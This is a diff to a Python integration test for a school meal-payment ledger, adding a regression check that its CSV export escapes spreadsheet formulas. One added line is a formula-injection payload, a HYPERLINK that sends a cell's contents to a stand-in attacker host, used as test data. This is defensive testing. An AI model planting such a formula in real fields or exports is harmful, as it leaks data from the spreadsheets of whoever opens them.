@@ -1,5 +1,6 @@
 """Replaying the whole meal and payment history changes nothing; exports carry the ledger."""
 
+import csv as stdlib_csv
 import io
 import uuid
 
@@ -81,11 +82,18 @@ async def test_csv_and_yearly_statement(office: httpx.AsyncClient, kafka: str, t
     await send(kafka, f"{topic_prefix}payment-received", top_up(account, 2000))
     await send(kafka, f"{topic_prefix}meal-consumed", meal(account, student, 17))
     await balance_becomes(office, account, 1550)
+    formula = '=HYPERLINK("http://attacker.example/?"&A1;"rimborso")'
+    adjustment = {"amount_cents": -1, "reason": formula}
+    adjusted = await office.post(f"/office/accounts/{account}/adjustments", json=adjustment)
+    assert adjusted.status_code == 201, adjusted.text
 
     csv = await office.get(f"/accounts/{account}/movements.csv")
     assert csv.status_code == 200 and csv.headers["content-type"].startswith("text/csv")
     lines = csv.text.strip().splitlines()
-    assert lines[0] == "data;causale;descrizione;importo;saldo" and len(lines) == 3
+    assert lines[0] == "data;causale;descrizione;importo;saldo" and len(lines) == 4
+    cells = [cell for row in stdlib_csv.reader(lines, delimiter=";") for cell in row]
+    assert not [c for c in cells if c.startswith(("=", "+", "@"))]  # text, never a formula (finding 11)
+    assert any("HYPERLINK" in c for c in cells) and "-0,01" in cells
     assert any(";-4,50;" in line for line in lines) and any(";20,00;" in line for line in lines)
 
     year = int((await office.get(f"/accounts/{account}/movements")).json()["items"][0]["booked_at"][:4])
